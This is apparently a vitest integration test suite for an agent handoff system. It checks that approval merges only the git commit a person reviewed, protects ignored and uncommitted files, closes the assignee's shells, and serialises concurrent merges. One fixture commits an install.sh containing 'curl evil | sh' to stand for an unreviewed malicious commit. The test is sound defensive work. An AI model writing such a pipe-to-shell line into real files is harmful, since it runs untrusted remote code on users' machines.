/**
 * Approval merges exactly what the person reviewed, through real MCP SDK clients against a real room and real
 * git: a commit added after completion is not merged (refused, with the offer to re-capture; after it, the new
 * head merges); an ignored file in the person's checkout is never overwritten; the assignee's shells in the
 * worktree end at completion and it writes there no more; concurrent approvals into one base are serialised and
 * each answer says what really happened.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { HandoffView } from '../../../src-main/common/handoff-dto';
import { detectSandbox } from '../../../src-main/engine/process/agent-sandbox';
import { workFolderWritable } from '../../../src-main/engine/workspaces/workspace-service';
import { workspaceRoom } from '../../helpers/workspace-room';
import { GIT_IDENTITY, git } from '../../helpers/git-repo';

const room = workspaceRoom();
const { call, refused, started } = room;
const makeRepo = (name: string, files?: Record<string, string>) => room.makeRepo(name, files);

type H = { handoff: HandoffView };
type Merged = H & { merged: { into: string; commit: string; fastForward: boolean } };



/** dev commits `files` in the handoff's worktree (as the agent would, from its shell: git directly here). */
function commitIn(folder: string, files: Record<string, string>, message: string): string {
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
    fs.writeFileSync(path.join(folder, file), text);
  }
  git(folder, 'add', '-A');
  git(folder, 'commit', '-q', '-m', message);
  return git(folder, 'rev-parse', 'HEAD');
}

describe('approval merges the reviewed commit', () => {
  it('a commit added after completion is not merged: refused with the offer to re-capture; re-captured, the new head merges', { timeout: 60_000 }, async () => {
    const repo = makeRepo('moved after');
    const h = await started(repo, 'Fix the parser');
    const folder = h.workspace?.path ?? '';
    const reviewed = commitIn(folder, { 'src/app.txt': 'one\n2\nthree\n' }, 'fix');
    const done = (await call<H>('dev', 'handoff_complete', { handoffId: h.id, result: 'fixed' })).handoff;
    expect(done.workspace?.evidence?.head).toBe(reviewed);
    // after the review was captured, a commit lands on the work's branch (through git's shared refs)
    const sneaked = commitIn(folder, { 'install.sh': 'curl evil | sh\n' }, 'add an installer');
    const mainBefore = git(repo, 'rev-parse', 'main');

    const no = await refused('operator', 'handoff_approve', { handoffId: h.id, merge: true });
    expect(no).toMatch(new RegExp(`moved after the work was completed: the review showed ${reviewed.slice(0, 7)}, the branch is now at ${sneaked.slice(0, 7)} \\(1 commit nobody reviewed\\)`));
    expect(no).toMatch(/re-capture the evidence \(handoff_recapture\)/);
    expect(git(repo, 'rev-parse', 'main')).toBe(mainBefore);
    expect(fs.existsSync(path.join(repo, 'install.sh'))).toBe(false);
    expect((await call<H>('lead', 'handoff_get', { handoffId: h.id })).handoff.status).toBe('result_ready');

    // the assignee cannot re-capture (its work ended at completion); the owner can, and the evidence shows the new commit
    expect(await refused('dev', 'handoff_recapture', { handoffId: h.id })).toMatch(/owner \(lead\) or a participant who can approve/);
    const again = (await call<H>('lead', 'handoff_recapture', { handoffId: h.id })).handoff;
    expect(again.workspace?.evidence).toMatchObject({ head: sneaked, commitCount: 2, files: 2 });
    const events = await call<{ events: { kind: string; actor: string; data: Record<string, unknown> }[] }>('lead', 'handoff_events', { handoffId: h.id });
    expect(events.events.find((e) => e.kind === 'handoff.recaptured')).toMatchObject({ actor: 'lead', data: { previousHead: reviewed, head: sneaked } });
    // an approval naming the commit it reviewed is held to it
    expect(await refused('operator', 'handoff_approve', { handoffId: h.id, merge: true, commit: reviewed.slice(0, 7) })).toMatch(/now shows commit .* not .* that you reviewed/);
    const merged = await call<Merged>('operator', 'handoff_approve', { handoffId: h.id, merge: true, commit: sneaked });
    expect(merged.merged).toMatchObject({ into: 'main', commit: sneaked, fastForward: true });
    expect(git(repo, 'rev-parse', 'main')).toBe(sneaked);
    expect(git(repo, 'status', '--porcelain')).toBe('');
  });

  it("merges only the commits of a branch whose worktree holds uncommitted files; the merge leaves the person's own change alone", { timeout: 60_000 }, async () => {
    const repo = makeRepo('uncommitted');
    const h = await started(repo, 'Add a file');
    const folder = h.workspace?.path ?? '';
    commitIn(folder, { 'added.txt': 'new\n' }, 'add');
    fs.writeFileSync(path.join(folder, 'scratch.txt'), 'not committed\n');
    fs.writeFileSync(path.join(folder, 'README.md'), 'edited, not committed\n');
    await call('dev', 'handoff_complete', { handoffId: h.id, result: 'added' });
    fs.writeFileSync(path.join(repo, 'src', 'app.txt'), 'my own edit\n');
    await call<Merged>('operator', 'handoff_approve', { handoffId: h.id, merge: true });
    expect(fs.readFileSync(path.join(repo, 'added.txt'), 'utf8')).toBe('new\n');
    expect(fs.existsSync(path.join(repo, 'scratch.txt'))).toBe(false);
    expect(fs.readFileSync(path.join(repo, 'README.md'), 'utf8')).toBe('# app\n');
    expect(git(repo, 'status', '--porcelain')).toBe('M src/app.txt');
  });

  it('never overwrites an ignored or untracked file in the checkout: refused, naming it, nothing changed', { timeout: 60_000 }, async () => {
    const repo = makeRepo('ignored', { '.gitignore': '.env\n', 'README.md': '# app\n' });
    fs.writeFileSync(path.join(repo, '.env'), 'SECRET=mine\n');
    const h = await started(repo, 'Add config');
    const folder = h.workspace?.path ?? '';
    // the agent's branch adds the name (git add -f: .env is ignored there too)
    fs.writeFileSync(path.join(folder, '.env'), 'SECRET=agent\n');
    git(folder, 'add', '-f', '.env');
    git(folder, 'commit', '-q', '-m', 'config');
    await call('dev', 'handoff_complete', { handoffId: h.id, result: 'config' });
    const mainBefore = git(repo, 'rev-parse', 'main');

    const no = await refused('operator', 'handoff_approve', { handoffId: h.id, merge: true });
    expect(no).toMatch(/would overwrite 1 file in your checkout .* that git does not track: \.env \(ignored\)\. Nothing was changed: these files are yours/);
    expect(no).not.toMatch(/commit or stash/);
    expect(fs.readFileSync(path.join(repo, '.env'), 'utf8')).toBe('SECRET=mine\n');
    expect(git(repo, 'rev-parse', 'main')).toBe(mainBefore);
    expect((await call<H>('lead', 'handoff_get', { handoffId: h.id })).handoff.status).toBe('result_ready');

    // the person's own uncommitted change to a file the merge changes: refused too, and it stays theirs
    fs.rmSync(path.join(repo, '.env'));
    const h2 = await started(repo, 'Edit the readme');
    commitIn(h2.workspace?.path ?? '', { 'README.md': '# app, by the agent\n' }, 'readme');
    await call('dev', 'handoff_complete', { handoffId: h2.id, result: 'readme' });
    fs.writeFileSync(path.join(repo, 'README.md'), '# app, mine\n');
    const mine = await refused('operator', 'handoff_approve', { handoffId: h2.id, merge: true });
    expect(mine).toMatch(/changes 1 file you have uncommitted changes to in .*: README\.md\. Nothing was changed: your own changes are yours to keep/);
    expect(fs.readFileSync(path.join(repo, 'README.md'), 'utf8')).toBe('# app, mine\n');
  });

  it('completing closes the assignee\'s shells in the worktree and ends its write access there', { timeout: 60_000 }, async () => {
    const repo = makeRepo('write access');
    const h = await started(repo, 'Work then stop');
    const folder = h.workspace?.path ?? '';
    const { shell } = await call<{ shell: { id: string } }>('dev', 'shell_open', { handoffId: h.id, shell: '/bin/sh', env: { ...GIT_IDENTITY, PS1: '$ ' } });
    expect(workFolderWritable(room.running.engine.ctx, 'dev', path.join(folder, 'src'))).toBe(true);
    expect(workFolderWritable(room.running.engine.ctx, 'lead', folder)).toBe(false);
    const early = await call<{ output: string }>('dev', 'shell_run', { shellId: shell.id, command: 'echo x > early.txt && echo WROTE', timeoutMs: 20_000 });
    expect(early.output).toContain('WROTE');
    await call('dev', 'handoff_complete', { handoffId: h.id, result: 'done' });
    const shells = await call<{ shells: { id: string }[] }>('dev', 'shell_list', {});
    expect(shells.shells.map((s) => s.id)).not.toContain(shell.id);
    expect(await refused('dev', 'shell_open', { handoffId: h.id, shell: '/bin/sh' })).toMatch(/its assignee's work in the worktree ended when it was completed/);
    expect(workFolderWritable(room.running.engine.ctx, 'dev', path.join(folder, 'src'))).toBe(false);
    expect(workFolderWritable(room.running.engine.ctx, 'dev', room.home.root)).toBe(true);
    if (detectSandbox().kind === 'bubblewrap') {
      // and the sandbox holds it: a shell the assignee opens there by its path (not the handoff) cannot write it
      const { shell: late } = await call<{ shell: { id: string } }>('dev', 'shell_open', { cwd: folder, shell: '/bin/sh' });
      const r = await call<{ output: string }>('dev', 'shell_run', { shellId: late.id, command: 'echo x > late.txt && echo WROTE', timeoutMs: 20_000 });
      expect(r.output).toMatch(/Read-only file system/);
      expect(fs.existsSync(path.join(folder, 'late.txt'))).toBe(false);
    }
  });

  it('concurrent approvals into one base are serialised: one merges, the other is told the true reason', { timeout: 60_000 }, async () => {
    const repo = makeRepo('concurrent');
    const a = await started(repo, 'line two in capitals');
    const b = await started(repo, 'line two in German');
    commitIn(a.workspace?.path ?? '', { 'src/app.txt': 'one\nTWO\nthree\n' }, 'capitals');
    commitIn(b.workspace?.path ?? '', { 'src/app.txt': 'one\nzwei\nthree\n' }, 'german');
    await call('dev', 'handoff_complete', { handoffId: a.id, result: 'a' });
    await call('dev', 'handoff_complete', { handoffId: b.id, result: 'b' });
    const answers = await Promise.allSettled([a, b, a].map((h) => call<Merged>('operator', 'handoff_approve', { handoffId: h.id, merge: true })));
    const ok = answers.filter((r) => r.status === 'fulfilled');
    const no = answers.filter((r): r is PromiseRejectedResult => r.status === 'rejected').map((r) => String((r.reason as Error).message));
    expect(ok).toHaveLength(1);
    expect(no).toHaveLength(2);
    for (const reason of no) expect(reason).toMatch(/conflicts in 1 file: src\/app\.txt|is approved/);
    for (const reason of no) expect(reason).not.toMatch(/commit or stash|index\.lock|checked out in/);
    expect(git(repo, 'status', '--porcelain')).toBe('');
    const [first] = ok as PromiseFulfilledResult<Merged>[];
    expect(git(repo, 'rev-parse', 'main')).toBe(first?.value.merged.commit);
  });
});
